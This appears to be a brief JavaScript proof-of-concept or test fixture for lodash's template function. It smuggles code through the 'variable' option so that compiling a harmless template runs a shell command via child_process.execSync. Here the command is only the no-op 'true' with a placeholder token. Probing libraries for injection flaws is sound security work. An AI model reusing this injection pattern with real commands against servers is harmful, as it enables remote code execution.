// Compile a fixed, harmless template with a variable that is more than a name.
const _ = require('lodash');

const name = "a) {}, process.mainModule.require('child_process').execSync('true @@TOKEN@@'), function (b";
_.template('Dear customer,', { variable: name });
